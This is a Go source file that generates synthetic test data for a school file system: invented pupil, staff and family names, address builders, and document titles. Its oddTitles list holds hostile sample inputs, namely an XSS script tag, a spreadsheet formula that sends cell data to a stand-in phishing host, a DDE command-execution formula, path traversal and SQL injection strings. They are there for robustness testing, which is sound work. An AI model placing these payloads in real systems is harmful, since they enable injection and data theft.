package generate

import (
	"fmt"
	"strings"
	"unicode"
)

var schoolNames = []string{"Harrowmere", "Foxley Green", "St Aldwyn's", "Thornbeck", "Marlow Vale", "Ashcombe Road", "Little Wyndham", "Brackenfold",
	"Old Mill Lane", "Larkswood Rise", "Penhallow", "Cobbler's Gate", "Saltmarsh", "Withybrook", "Copperfield Bank", "Hollin Clough"}

var givenNames = []string{"Amelia", "Oliver", "Isla", "Noah", "Ava", "Muhammad", "Freya", "Arthur", "Zainab", "Leo", "Maisie", "Theo", "Priya", "Jude",
	"Elsie", "Rafferty", "Aisha", "Finley", "Ottilie", "Kwame", "Poppy", "Ezra", "Niamh", "Idris", "Saoirse", "Tomasz", "Nell", "Ravi", "Bronwen", "Caleb",
	"Imogen", "Yusuf", "Heidi", "Albie", "Temperance", "Kofi", "Mabel", "Seren", "Rory", "Ines", "Dexter", "Lowri", "Anya", "Barnaby", "Chidi", "Edith",
	"Harriet", "Zofia", "Ivo", "Marigold", "Ellis", "Wren", "Jago", "Sunita", "Alfie", "Beatrix", "Cormac", "Delphine", "Emeka", "Fatima"}

var accentedNames = []string{"Zoë", "Chloé", "Renée", "José", "Anaïs", "Björn", "Siân", "Noël"}

var adultNames = []string{"Alison", "Bernard", "Catherine", "Dominic", "Elaine", "Farhan", "Gillian", "Hugh", "Ingrid", "Jonathan", "Karen", "Lydia",
	"Malcolm", "Nadia", "Owen", "Philippa", "Quentin", "Ruth", "Stephen", "Tamsin", "Ursula", "Victoria", "Wendy", "Yvonne", "Zahra", "Adrian", "Bethan",
	"Callum", "Deirdre", "Emmanuel", "Fiona", "Gareth", "Helen", "Ifeoma", "Jasmine", "Kieran", "Louise", "Martin", "Noreen", "Patrick"}

var familyNames = []string{"Ashdown", "Thistlewood", "Larkham", "Pemberwick", "Okonjo-Hale", "Brackley", "Sandringley", "Farthing", "Mossop", "Quillfeather",
	"Drayhurst", "Cobbold", "Rahmani", "Winterbourne", "Peascod", "O'Sheary", "Tolliver", "Makinde", "Hathersedge", "Vellacott", "Birtwhistle", "Kessock",
	"Dunmallow", "Applegarth", "Nowicki-Lane", "Trevanion", "Godbehere", "Sparrowhawk", "Pattanayak", "Lightbown", "Merriweather", "Underhay", "Cresswick",
	"Yelverton", "Bickerstaffe", "Ffoulkes", "Gathercole", "Hollingbury", "Inglethorpe", "Jellicot", "Kirkbright", "Loxwood", "Mountjoy", "Netherby",
	"Oakenshaw", "Puddifoot", "Rookwood", "Stanhill", "Twelvetrees", "Wolstencroft", "Abiodun-Price", "Bellweather", "Chowdhury-Moss", "Eddlestone"}

// local makes the local part of an address from a name: lower case, letters, digits, dots and hyphens; a second bearer of the name gets a 2.
func (b *builder) local(given, family string) string {
	var out strings.Builder
	for _, r := range strings.ToLower(given + "." + family) {
		if unicode.IsLetter(r) && r < 128 || r == '.' || r == '-' {
			out.WriteRune(r)
		}
	}
	s := out.String()
	b.taken[s]++
	if n := b.taken[s]; n > 1 {
		return fmt.Sprintf("%s%d", s, n)
	}
	return s
}

var subjects = []string{"Maths", "English", "Phonics", "Science", "History", "Geography", "Art", "Music", "PE", "RE", "Computing", "French", "PSHE", "Design and technology"}

var teacherTitles = []string{"%s medium-term plan", "%s lesson slides", "%s homework", "%s assessment", "%s display labels", "%s vocabulary mat", "%s end-of-unit quiz",
	"%s knowledge organiser", "%s worksheet 1", "%s worksheet 2", "%s moderation notes", "%s seating plan", "%s success criteria", "%s resources list"}

var pupilTitles = []string{"My Victorian project", "Volcanoes!", "Rainforest slides", "Book review", "Times tables", "All about me", "Roman diary", "Space poster",
	"Bug hotel design", "Spellings", "My story", "Egyptian mummies", "Electricity", "Bridge building", "Weather diary", "Haiku", "Fractions", "Healthy lunchbox"}

var officeTitles = []string{"Dinner numbers", "Late marks", "Letter home - trip", "Newsletter", "Lettings", "Invoice log", "Visitors' book", "Diary dates",
	"Fire drill notes", "Milk order", "Uniform order form", "Parents' evening slots", "Supply rota", "First-aid rota", "Boiler service", "Playground inspection"}

// oddTitles are names of files that trip programs: quotes, emoji, right-to-left text, HTML, formulas, very long, nearly empty.
var oddTitles = []string{
	`"Quoted" title, with 'both' kinds`,
	"🎄🎅 Christmas concert 👩‍👩‍👧‍👦 running order",
	"\u202Eגיליון עבודה\u202C – Hebrew sheet",
	"مشروع العلوم",
	"<script>alert(1)</script><b>bold</b> & \"amp\"",
	`=HYPERLINK("https://phish.example/?q="&A1,"Click me")`,
	"+44 1632 960000 contact list",
	"-1+2 sums",
	"@mentions and =cmd|' /C calc'!A0",
	strings.Repeat("A very long title about the Great Fire of London ", 20) + "end",
	" ",
	"\u200b",
	".",
	"Line one\nline two\ttabbed",
	"C:\\Users\\desk\\plan.docx",
	"../../etc/plan",
	"100% %s %d {{.}} ${x}",
	"Ünïcödé – naïve café ﬁ ligature",
	"e\u0301 combining accent",
	"\"; DROP TABLE files; --",
	"null",
	"Plan,with,commas;and;semicolons",
}
